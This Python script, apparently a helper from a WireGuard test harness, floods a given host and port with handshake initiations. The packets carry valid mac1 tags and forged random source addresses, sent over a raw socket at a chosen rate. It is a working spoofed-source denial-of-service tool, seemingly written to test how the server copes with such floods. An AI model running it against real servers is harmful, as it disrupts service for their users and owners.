#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Initiations from forged sources, as anybody can make them who knows a public key.

  flood.py SOURCE-NET HOST PORT PUBLIC-KEY RATE    sends RATE initiations per second, in
                                                   bursts, until SIGTERM; then prints how many

Each message has a valid mac1 over random bytes; its source is a random address of SOURCE-NET,
an IPv4 prefix of 16 bits, and a random port. Sending forged sources needs a raw socket.
Layouts: WireGuard paper, sections 5.4.2 and 5.4.4.
"""
import base64
import hashlib
import os
import random
import signal
import socket
import struct
import sys
import time

# Random parts are made in advance, so that the rate does not suffer from them.
NUM_MESSAGES = 2000
BURST_S = 0.5
# Low enough for a queue of 4096 not to be full when somebody honest comes.
BURST_LEN = 2000
IP_LEN = 20 + 8 + 148


def messages(public_key):
    mac_key = hashlib.blake2s(b"mac1----" + public_key).digest()
    for _ in range(NUM_MESSAGES):
        body = struct.pack("<I", 1) + os.urandom(112)
        mac1 = hashlib.blake2s(body, key=mac_key, digest_size=16).digest()
        yield body + mac1 + bytes(16)


def main():
    source_net, host, port, public_key, rate = sys.argv[1:]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    net = socket.inet_aton(source_net)[:2]
    # The kernel fills in the checksum of the IP header; one of zero says that UDP has none.
    head = struct.pack("!BBHHHBBH", 0x45, 0, IP_LEN, 0, 0, 64, socket.IPPROTO_UDP, 0) + net
    destination = socket.inet_aton(host)
    tail = struct.pack("!HHH", int(port), 8 + 148, 0)
    ready = [tail + message for message in messages(base64.b64decode(public_key))]
    rng = random.Random(int(os.environ.get("HOSTILE_SEED", "1")))
    burst_len = min(BURST_LEN, int(int(rate) * BURST_S))
    stopped = []
    signal.signal(signal.SIGTERM, lambda *_: stopped.append(True))
    print("ready", flush=True)
    num_sent = 0
    start = time.monotonic()
    due = start
    while not stopped:
        for _ in range(burst_len):
            source = rng.getrandbits(32)
            message = ready[num_sent % NUM_MESSAGES]
            packet = head + struct.pack("!H", source >> 16) + destination \
                + struct.pack("!H", source & 0xFFFF | 1) + message
            try:
                sock.sendto(packet, (host, 0))
            except BlockingIOError:
                pass
            num_sent += 1
        due += BURST_S
        time.sleep(max(0.0, due - time.monotonic()))
    seconds = time.monotonic() - start
    print(num_sent, int(num_sent / seconds), flush=True)


main()
